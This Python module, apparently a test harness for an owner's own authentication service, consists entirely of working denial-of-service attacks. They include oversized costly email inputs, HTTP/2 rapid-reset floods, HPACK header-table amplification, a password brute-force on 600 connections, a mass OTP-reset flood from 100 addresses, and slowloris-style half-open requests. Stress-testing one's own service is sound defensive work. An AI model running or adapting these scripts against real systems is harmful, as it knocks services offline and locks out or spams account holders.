"""Attacks, each in a process of its own until that is ended. A rate bounds what they send, or the service does."""

import asyncio
import itertools
import json
import socket
import struct
import time
from collections.abc import Callable

from owner import EMAIL
from service import HOST

ATTACKER = "127.0.0.2"
HTTP2_BEGIN = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"
# As many as the service lets one connection have.
STREAMS = 32


def connect(port: int, address: str = ATTACKER) -> socket.socket:
    return socket.create_connection((HOST, port), timeout=5, source_address=(address, 0))


def request(path: str, body: dict) -> bytes:
    text = json.dumps(body, ensure_ascii=False).encode()
    head = f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: {len(text)}\r\n\r\n"
    return head.encode() + text


def headers_frame(stream: int, block: bytes, flags: int) -> bytes:
    return len(block).to_bytes(3, "big") + bytes([1, flags]) + struct.pack(">I", stream) + block


def literal(name: str, value: str, *, is_indexed: bool = False) -> bytes:
    """A header field for HPACK, without Huffman coding."""
    return bytes([0x40 if is_indexed else 0]) + text(name) + text(value)


def text(value: str) -> bytes:
    length = len(value)
    if length < 127:
        return bytes([length]) + value.encode()
    length -= 127
    coded = [127]
    while length >= 128:
        coded.append(length % 128 + 128)
        length //= 128
    return bytes([*coded, length]) + value.encode()


# 0x83 is the method POST, 0x86 the scheme http.
def post(path: str) -> bytes:
    return bytes([0x83, 0x86]) + literal(":path", path) + literal(":authority", "x")


def long_addresses(port: int) -> None:
    """Addresses of almost 16 KiB with labels that are costly to encode, 127 a second."""
    domain = ".".join("ä" * 500 for _ in range(7))
    sent = request("/api/auth/login", {"email": "a" * 8000 + "@" + domain, "password": "a long password"})
    began = time.monotonic()
    connection = connect(port)
    for number in itertools.count():
        time.sleep(max(0.0, began + number / 127 - time.monotonic()))
        try:
            connection.sendall(sent)
            if not connection.recv(65536):
                raise ConnectionResetError
        except OSError:
            connection.close()
            connection = connect(port)


def hang_up(port: int) -> None:
    """Log-outs with a cookie that looks like one, on connections that are closed at once."""
    block = post("/api/auth/logout") + literal("cookie", "neptun-session=abcdefghijklmnopqrstuv")
    frames = b"".join(headers_frame(stream, block, 5) for stream in range(1, 2 * STREAMS, 2))
    while True:
        try:
            with connect(port) as connection:
                connection.sendall(HTTP2_BEGIN + frames)
                # Closed at once, the service would not read what was sent.
                time.sleep(0.001)
        except OSError:
            time.sleep(0.001)


def wrong_log_ins(port: int) -> None:
    """Wrong passwords for the owner's account on 600 connections of one address."""
    sent = request("/api/auth/login", {"email": EMAIL, "password": "a wrong password"})
    asyncio.run(on_each(port, [ATTACKER] * 600, lambda: sent))


def repeated_headers(port: int) -> None:
    """Header lists that name one long field of HPACK's table again and again, on 40 connections."""
    first = post("/api/auth/login") + literal("x", "y" * 3900, is_indexed=True)
    held = []
    for repeats in [2, 1000]:
        again = post("/api/auth/login") + bytes([0xBE]) * repeats
        frames = [headers_frame(1, first, 4)] + [headers_frame(stream, again, 4) for stream in range(3, 2 * STREAMS, 2)]
        for _ in range(20):
            connection = connect(port)
            held.append(connection)
            try:
                connection.sendall(HTTP2_BEGIN + b"".join(frames))
            except OSError:
                continue
    time.sleep(3600)


def resets(port: int) -> None:
    """Requests for resets from a hundred networks, 3,000 at once and 0.83 a second from then on."""
    number = itertools.count()

    def one() -> bytes:
        return request("/auth/otp", {"action": "create", "email": f"user{next(number)}@example.com"})

    addresses = [f"127.0.1.{host}" for host in range(1, 101)]
    asyncio.run(on_each(port, addresses, one, times=30))
    while True:
        time.sleep(1 / 0.83)
        asyncio.run(on_each(port, addresses[:1], one, times=1))


def connections(port: int) -> None:
    """As many connections as the service takes, with a request on each that never ends, and 14 more a second."""
    begun = b"POST /api/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 90\r\n\r\n{"
    held = []
    while True:
        try:
            connection = connect(port)
            connection.sendall(begun)
            held.append(connection)
        except OSError:
            pass
        if len(held) > 300:
            held.pop(0).close()
            time.sleep(1 / 14)


async def on_each(port: int, addresses: list[str], sent: Callable[[], bytes], times: int | None = None) -> None:
    """Sends requests on a connection of each address, one after the other."""

    async def work(address: str) -> None:
        for _ in range(times) if times else itertools.count():
            writer = None
            try:
                reader, writer = await asyncio.open_connection(HOST, port, local_addr=(address, 0))
                # Several on one connection, until the service ends it.
                for _ in range(1 if times else 100):
                    writer.write(sent())
                    if not await reader.read(65536):
                        break
            except OSError:
                await asyncio.sleep(0.01)
            finally:
                if writer:
                    writer.close()

    await asyncio.gather(*(work(address) for address in addresses))
